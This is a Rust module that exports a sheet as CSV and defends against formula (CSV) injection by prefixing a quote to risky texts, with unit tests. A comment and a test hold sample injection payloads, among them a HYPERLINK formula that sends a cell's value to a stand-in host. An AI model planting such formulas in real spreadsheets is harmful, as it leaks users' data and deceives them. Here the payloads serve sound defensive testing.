//! Writes one sheet of an [`Export`] as CSV: UTF-8 with a byte-order mark (so that Excel
//! reads the Vietnamese letters), a header row, plain numbers (a dot for decimals, no
//! thousands separators, percentages in percent with two decimals) and dd/mm/yyyy dates.
//! Every text is quoted, and a text that a spreadsheet would take for a formula is
//! neutralised (see [`neutralise`]).

use super::table::{Cell, Sheet, Style};
use crate::error::{ServiceError, ServiceResult};
use std::borrow::Cow;

/// The UTF-8 byte-order mark.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The CSV bytes of `sheet`.
pub fn write(sheet: &Sheet) -> ServiceResult<Vec<u8>> {
    let mut w = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::NonNumeric)
        .from_writer(BOM.to_vec());
    let fail = |e: csv::Error| ServiceError::Internal(anyhow::Error::new(e).context("writing CSV"));
    for column in &sheet.columns {
        w.write_field(neutralise(&column.header).as_ref())
            .map_err(fail)?;
    }
    w.write_record(None::<&[u8]>).map_err(fail)?;
    for row in &sheet.rows {
        for (i, cell) in row.iter().enumerate() {
            let style = sheet.columns.get(i).map_or(Style::Plain, |c| c.style);
            w.write_field(field(cell, style).as_ref()).map_err(fail)?;
        }
        w.write_record(None::<&[u8]>).map_err(fail)?;
    }
    w.into_inner()
        .map_err(|e| ServiceError::Internal(anyhow::anyhow!("writing CSV: {e}")))
}

fn field(cell: &Cell, style: Style) -> Cow<'_, str> {
    match cell {
        Cell::Empty => Cow::Borrowed(""),
        Cell::Text(s) => neutralise(s),
        Cell::Int(v) => v.to_string().into(),
        Cell::Number(v) if matches!(style, Style::Percent | Style::Decimal) => {
            format!("{v:.2}").into()
        }
        Cell::Number(v) => v.to_string().into(),
        Cell::Date(d) => d.format("%d/%m/%Y").to_string().into(),
    }
}

/// A text as a spreadsheet must show it: one that starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return would be run as a formula when the CSV is opened (a staff name such as
/// `=HYPERLINK("http://…";"Bấm vào đây")`), so it gets a leading `'`, which spreadsheets
/// read as "this is text" (OWASP, CSV injection). Numbers are never texts here: a negative
/// figure is written as a number and left alone.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::super::table::Column;
    use super::*;

    #[test]
    fn texts_that_would_run_as_formulas_start_with_a_quote() {
        for text in [
            "=HYPERLINK(\"http://x.example/?\"&B2,\"Bấm vào đây\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(text), format!("'{text}"), "{text:?}");
        }
        for text in ["Nguyễn Văn A", "C1", "", "1=1", " =1", "'quoted"] {
            assert_eq!(neutralise(text), text);
        }
    }

    #[test]
    fn a_sheet_quotes_its_texts_and_leaves_negative_numbers_alone() {
        let mut sheet = Sheet::new(
            "x",
            vec![
                Column::new("=Tên", Style::Plain, 1.0),
                Column::new("Số", Style::Plain, 1.0),
                Column::new("Tỷ lệ", Style::Percent, 1.0),
            ],
        );
        sheet.push(vec!["=1+2".into(), Cell::Int(-5), Cell::Number(-1.5)]);
        sheet.push(vec!["-3".into(), Cell::Empty, Cell::Number(2.0)]);
        let bytes = write(&sheet).unwrap_or_default();
        let text = String::from_utf8_lossy(&bytes[BOM.len()..]).into_owned();
        assert_eq!(
            text,
            "\"'=Tên\",\"Số\",\"Tỷ lệ\"\n\"'=1+2\",-5,-1.50\n\"'-3\",\"\",2.00\n"
        );
    }
}
